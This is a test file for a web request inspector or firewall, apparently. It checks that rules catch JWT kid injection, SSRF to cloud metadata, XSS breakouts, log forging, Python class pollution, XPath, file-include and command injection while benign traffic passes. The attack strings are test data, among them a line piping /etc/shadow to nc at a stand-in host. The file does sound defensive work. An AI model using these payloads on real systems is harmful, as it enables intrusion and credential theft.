import { describe, expect, it } from 'vitest';
import { createInspector, type InspectRequest } from '../index.js';
import { jsonRequest, queryRequest, ruleIds } from '../testing/requests.js';

/**
 * Blind spots and false alarms a third probe set written apart from the engine found (session 6: 449 attacks,
 * 402 API requests from DevOps, observability, identity, CMS and chat traffic). Each attack with the rule that
 * must now fire, and the benign request beside it that must still pass.
 */
const pl2 = createInspector({ paranoia: 2 });
const q = (v: string, name = 'x') => ruleIds(pl2, queryRequest(v, name));
const passes = (req: InspectRequest) => pl2.inspect(req).blocked === false;
const b64url = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');
const jwt = (header: unknown, claims: unknown = { sub: '1' }) => `${b64url(header)}.${b64url(claims)}.c2lnbmF0dXJl`;
const bearer = (token: string): InspectRequest => ({ method: 'GET', path: '/me', query: '', headers: { host: 'h', authorization: `Bearer ${token}` } });

describe('a JWT header is read before its signature is checked', () => {
  it('kid injection in a bearer token: SQL, traversal', () => {
    expect(ruleIds(pl2, bearer(jwt({ alg: 'HS256', kid: "x' UNION SELECT 'secret'-- -" })))).toContain('sqli.union-select');
    const r = pl2.inspect(bearer(jwt({ alg: 'HS256', kid: '../../../../../../dev/null' })));
    expect(r.blocked).toBe(true);
    expect(r.findings[0]?.location).toBe('header:authorization#jwt-header:/kid');
  });

  it('in a cookie or a parameter too', () => {
    const cookie: InspectRequest = { method: 'GET', path: '/', query: '', headers: { host: 'h', cookie: `session=${jwt({ alg: 'none', kid: '../../etc/passwd' })}` } };
    expect(pl2.inspect(cookie).blocked).toBe(true);
    expect(q(jwt({ alg: 'RS256', jku: 'http://169.254.169.254/latest/meta-data/' }), 'token')).toContain('ssrf.internal-host');
  });

  it('ordinary tokens pass, and the claims are not read (the issuer signed them)', () => {
    expect(passes(bearer(jwt({ alg: 'RS256', typ: 'JWT', kid: 'lk0ZWy0sDH2bSA_hjWYpGVjYc4g' })))).toBe(true);
    expect(passes(bearer(jwt({ alg: 'ES256', kid: '2024-05-01' }, { iss: 'http://localhost:8080/realms/dev', name: "O'Brien" })))).toBe(true);
  });
});

describe('xss: markup after a quote and ">" the page opened', () => {
  it('dangling markup and injected elements after an attribute breakout', () => {
    expect(q(`"><img src='//attacker.example/?`)).toContain('xss.attribute-breakout');
    expect(q(`x' /><form action=https://evil.example>`)).toContain('xss.attribute-breakout');
  });

  it("a value's own HTML closes its own attributes", () => {
    expect(passes(jsonRequest('html', '<p>See <a href="https://example.com/docs"><img src="/logo.png"> the docs</a></p>'))).toBe(true);
    expect(passes(jsonRequest('html', '<table style="width:100%"><tr><td style="padding:8px" class="x">Hi</td></tr></table>'))).toBe(true);
  });

  it('an XSLT style sheet processing instruction loads active content', () => {
    expect(q('<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>')).toContain('xss.active-element');
    expect(q('<?xsl-stylesheet?>')).not.toContain('xss.active-element');
  });
});

describe('crlf: a forged log record', () => {
  it('a line break and a timestamp or level in a one-line field', () => {
    const form: InspectRequest = { method: 'POST', path: '/login', query: '', headers: { host: 'h', 'content-type': 'application/x-www-form-urlencoded' }, body: 'username=guest%0d%0a2024-05-01%2012:00:00%20INFO%20Login%20succeeded%20user=admin&password=x' };
    expect(ruleIds(pl2, form)).toContain('crlf.log-injection');
    expect(q('bob\n[ERROR] disk full, deleting /var/data')).toContain('crlf.log-injection');
  });

  it('notes with dated lines, and prose lines starting with "Info:", pass', () => {
    expect(passes(jsonRequest('notes', 'Called the customer.\n2024-05-01 12:00 follow-up scheduled\nInfo: bring the contract'))).toBe(true);
    expect(passes(queryRequest('first line\nInfo: second line'))).toBe(true);
  });
});

describe('Python class pollution', () => {
  it('a key path through __class__ / __init__ / __globals__', () => {
    expect(ruleIds(pl2, jsonRequest('__class__', { __init__: { __globals__: { SECRET_KEY: 'x' } } }))).toContain('proto.python-class-pollution');
    expect(q('polluted', '__class__[__init__][__globals__][app]')).toContain('proto.python-class-pollution');
    expect(q('__class__.__init__.__globals__.app.config.SECRET_KEY')).toContain('proto.python-class-pollution');
  });

  it('a type tag and Python prose pass', () => {
    expect(passes(jsonRequest('__class__', 'Decimal'))).toBe(true);
    expect(passes(jsonRequest('body', 'Log self.__class__.__name__ and call super().__init__() first'))).toBe(true);
  });
});

describe('xpathi: a predicate breakout', () => {
  it.each([`'] | //user/*| a['`, `'] | //*[contains(., 'password')] | //a['`, `x' or '1'='1`, `') | //*`])('%s', (v) => {
    expect(pl2.inspect(queryRequest(v)).blocked).toBe(true);
  });

  it('quoted lists and prose pass', () => {
    expect(passes(jsonRequest('text', `Use ['a', 'b'] or the default list`))).toBe(true);
    expect(passes(jsonRequest('text', `(see 'Terms') and (the 'Privacy' page)`))).toBe(true);
    expect(passes(jsonRequest('template', `{{ ['id'] | join(',') }}`))).toBe(true);
  });
});

describe('rfi: a scheme-relative URL in an include parameter', () => {
  it('module=//evil.example/x', () => {
    expect(q('//evil.example/x', 'module')).toContain('rfi.include-parameter');
  });

  it('a URL under a JSON config object, or in a file-named key, is no include parameter', () => {
    expect(passes({ method: 'POST', path: '/hooks', query: '', headers: { host: 'h', 'content-type': 'application/json' }, body: JSON.stringify({ config: { url: 'https://hooks.example.com/T0/B0' } }) })).toBe(true);
    expect(passes(jsonRequest('default.conf', 'server { location / { proxy_pass https://api.example.com; } }'))).toBe(true);
    expect(passes(queryRequest('//cdn.example.com/app.js', 'src'))).toBe(true);
  });
});

describe('false alarms fixed', () => {
  it('an English command word closing a phrase after " & "', () => {
    expect(passes(jsonRequest('title', 'Version 3.0: dark mode, faster search & more'))).toBe(true);
    expect(q('127.0.0.1 & id')).toContain('cmdi.chained-command');
    expect(q('x & more /etc/passwd')).toContain('cmdi.chained-command');
  });

  it("an SDK User-Agent naming its runtime after ';'", () => {
    const ua = (v: string): InspectRequest => ({ method: 'GET', path: '/', query: '', headers: { host: 'h', 'user-agent': v } });
    expect(passes(ua('sendgrid/6.11.0;python'))).toBe(true);
    expect(ruleIds(pl2, ua("x;python -c 'import os'"))).toContain('cmdi.chained-command');
  });

  it('an operator alone as a filter value; as a name it is still a probe', () => {
    expect(passes(jsonRequest('op', '>='))).toBe(true);
    const form: InspectRequest = { method: 'POST', path: '/', query: '', headers: { host: 'h', 'content-type': 'application/x-www-form-urlencoded' }, body: '%3E%3D' };
    expect(ruleIds(pl2, form)).toContain('sqli.bare-operator');
  });

  it('markdown code spans and quoted characters in prose are not SQL quotes', () => {
    expect(passes(jsonRequest('entry', 'Fixed: titles with `&` showed as `&amp;` in the feed'))).toBe(true);
    expect(passes(jsonRequest('message', `Unexpected token '<', "<!DOCTYPE "... is not valid JSON`))).toBe(true);
    expect(q("x` OR 1=1 -- ")).toContain('sqli.breakout-boolean');
  });

  it("a string literal of the value's own language (PromQL, LogQL) is not a breakout", () => {
    expect(passes(queryRequest('histogram_quantile(0.99, sum(rate(http_request_duration_seconds_bucket{route!~"/healthz|/metrics"}[5m])) by (le))', 'query'))).toBe(true);
    expect(passes(queryRequest('(1 - (node_filesystem_avail_bytes{mountpoint="/",fstype!="tmpfs"} / node_filesystem_size_bytes)) * 100', 'query'))).toBe(true);
    expect(pl2.inspect(queryRequest("1' or '1'='1")).blocked).toBe(true);
    expect(pl2.inspect(queryRequest("x=' or 1=1 -- ")).blocked).toBe(true);
  });

  it('a loopback URL a browser follows (OAuth redirect URI, WebAuthn origin) is weak; one the server fetches is not', () => {
    expect(passes(jsonRequest('redirect_uris', ['https://app.example.com/cb', 'http://localhost:3000/auth/callback']))).toBe(true);
    expect(ruleIds(createInspector({ paranoia: 3 }), jsonRequest('redirect_uri', 'http://127.0.0.1:8080/cb'))).toContain('ssrf.loopback-browser-url');
    expect(pl2.inspect(jsonRequest('webhook_url', 'http://localhost:8080/admin')).blocked).toBe(true);
    expect(pl2.inspect(jsonRequest('redirect_uri', 'http://169.254.169.254/latest/meta-data/')).blocked).toBe(true);
  });

  it('a fenced code block in a message is shown, not run; a breakout in it still counts', () => {
    expect(passes(jsonRequest('content', "Here's the query I ran:\n```sql\nSELECT name, email FROM users WHERE created_at > '2024-01-01' ORDER BY name;\n```\nreturns 42 rows"))).toBe(true);
    expect(passes(jsonRequest('body', 'Install the CLI first:\n\n```bash\ncurl -fsSL https://get.example.com/install.sh | sh\n```\n\nthen run the setup wizard.'))).toBe(true);
    expect(pl2.inspect(jsonRequest('body', "look at this, it breaks the login page:\n```\nadmin' OR 1=1 -- \n```")).blocked).toBe(true);
    // A value that is mostly a fence is code: read as it is.
    expect(pl2.inspect(jsonRequest('body', '```\n; cat /etc/shadow | nc evil.example 4444\n```')).blocked).toBe(true);
    // MySQL's back-tick identifiers are not markdown code spans.
    expect(pl2.inspect(jsonRequest('body', 'ALTER TABLE `mass_mails` CHANGE `receivers` `receivers` ENUM(\'A\',\'B\') CHARACTER SET utf8')).blocked).toBe(true);
  });

  it('a path under a system directory is weak alone; sensitive files are not', () => {
    expect(passes(queryRequest('/var/log/nginx/access.log', 'path'))).toBe(true);
    expect(passes(jsonRequest('mountpoint', '/var/lib/postgresql'))).toBe(true);
    expect(pl2.inspect(queryRequest('/etc/passwd', 'file')).blocked).toBe(true);
    expect(pl2.inspect(queryRequest('../../../../var/log/apache2/access.log', 'file')).blocked).toBe(true);
  });
});
